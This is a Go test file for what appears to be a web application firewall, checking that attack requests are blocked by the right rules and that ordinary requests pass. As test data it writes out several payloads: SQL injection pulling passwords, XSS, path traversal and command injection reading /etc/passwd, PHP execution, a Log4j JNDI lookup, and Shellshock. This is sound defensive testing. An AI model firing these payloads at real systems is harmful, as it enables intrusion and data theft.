package rules_test

import (
	"strings"
	"testing"

	"github.com/lunette-waf/lunette/internal/exchange"
)

const (
	form      = "application/x-www-form-urlencoded"
	multipart = "multipart/form-data; boundary=bnd"
	sqli      = "1' OR '1'='1' UNION SELECT password FROM users-- "
)

func part(head, content string) string {
	return "--bnd\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + content + "\r\n--bnd--\r\n"
}

// Each attack must be blocked and its rule be among the matches.
func TestAttacks(t *testing.T) {
	for _, c := range []struct {
		name string
		x    *exchange.Exchange
		body string
		rule int
	}{
		{"sqli in query", get("/?q=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--%20"), "", 942100},
		{"xss in query", get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), "", 941100},
		{"lfi in query", get("/?file=../../../../etc/passwd"), "", 930120},
		{"lfi in path", get("/..%2f..%2f..%2fetc/passwd"), "", 930100},
		{"rce in query", get("/?cmd=;cat%20/etc/passwd"), "", 932160},
		{"php in query", get("/?x=%3C%3Fphp%20system(%27id%27)%3B"), "", 933100},
		{"sqli in a form", post("/login", form), "user=" + strings.ReplaceAll(sqli, " ", "+"), 942100},
		{"xss in a form", post("/c", form), "t=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", 941100},
		{"sqli in json", post("/api", "application/json"), `{"a":{"b":["x","` + sqli + `"]}}`, 942100},
		{"xss in json of a vendor", post("/api", "application/vnd.shop+json"), `{"a":"<script>alert(1)</script>"}`, 941100},
		{"sqli in xml text", post("/api", "text/xml"), `<a><b>` + strings.ReplaceAll(sqli, "'", "&apos;") + `</b></a>`, 942100},
		{"xss in soap", post("/api", "application/soap+xml"), `<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>`, 941110},
		{"sqli in multipart", post("/up", multipart), part(`name="q"`, sqli), 942100},
		{"php upload", post("/up", multipart), part(`name="f"; filename="shell.php"`, "x"), 933110},
		{"sqli in a cookie", get("/", "Cookie", "id="+strings.ReplaceAll(sqli, ";", "")), "", 942100},
		{"log4j in a header", get("/", "X-Api-Version", "${jndi:ldap://x.test/a}"), "", 944150},
		{"second of two equal fields", get("/", "X-A", "harmless", "X-A", "${jndi:ldap://x.test/a}"), "", 944150},
		{"shellshock in user agent", get("/", "Referer", "() { :; }; /bin/bash -c id"), "", 932170},
		{"scanner", get("/", "User-Agent", "sqlmap/1.8"), "", 913100},
		{"broken json", post("/api", "application/json"), `{"a":`, 200002},
		{"broken multipart", post("/up", multipart), "--bnd\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx", 200003},
		{"too many arguments", get("/?" + strings.Repeat("a=1&", 3100)), "", 200007},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := run(keep, c.x, c.body)
			if o.answer == nil {
				t.Fatalf("passed: %+v", o.waf)
			}
			if !has(o.waf, c.rule) {
				t.Errorf("rule %d is not among %+v", c.rule, o.waf.Matches)
			}
			checkScore(t, o.waf)
		})
	}
}

// checkScore holds that the points of the matches add up to the score.
func checkScore(t *testing.T, w exchange.WAF) {
	t.Helper()
	sum, decided := 0, false
	for _, m := range w.Matches {
		sum += m.Score
		decided = decided || m.ID == 949110 || m.ID == 959100
	}
	if decided && sum != w.Score {
		t.Errorf("matches add up to %d, score is %d: %+v", sum, w.Score, w.Matches)
	}
}

func TestBenign(t *testing.T) {
	for _, c := range []struct {
		name string
		x    *exchange.Exchange
		body string
	}{
		{"page", get("/index.html"), ""},
		{"search", get("/search?q=red+shoes&page=2"), ""},
		{"form", post("/login", form), "user=ann&password=Correct+horse+battery"},
		{"json", post("/api", "application/json; charset=utf-8"), `{"name":"Ann O'Neil","tags":["a","b"],"n":12.5}`},
		{"xml", post("/api", "application/xml"), `<?xml version="1.0"?><order id="7"><item>shoe</item></order>`},
		{"multipart", post("/up", multipart), part(`name="photo"; filename="cat.jpg"`, "\xff\xd8\xff\xe0 not really")},
		{"a client that waits for 100", post("/login", form, "Expect", "100-continue"), "user=ann"},
		{"put", func() *exchange.Exchange { x := post("/api/7", "application/json"); x.Request.Method = "PUT"; return x }(), `{"a":1}`},
		{"websocket upgrade", get("/live", "Connection", "Upgrade", "Upgrade", "websocket", "Sec-WebSocket-Version", "13", "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="), ""},
		{"h2 without Host", func() *exchange.Exchange {
			x := get("/")
			x.Request.Header.Del("Host")
			x.Request.Proto = exchange.HTTP2
			return x
		}(), ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if o := run(keep, c.x, c.body); o.err != nil || o.waf.Score != 0 {
				t.Fatalf("err %v, record %+v", o.err, o.waf)
			}
		})
	}
}

func TestWebSocketUpgradePassesTheRules(t *testing.T) {
	o := run(keep, get("/live?q=%3Cscript%3Ealert(1)%3C/script%3E", "Connection", "Upgrade", "Upgrade", "websocket"), "")
	if o.answer == nil || !has(o.waf, 941100) {
		t.Fatalf("%+v", o)
	}
}
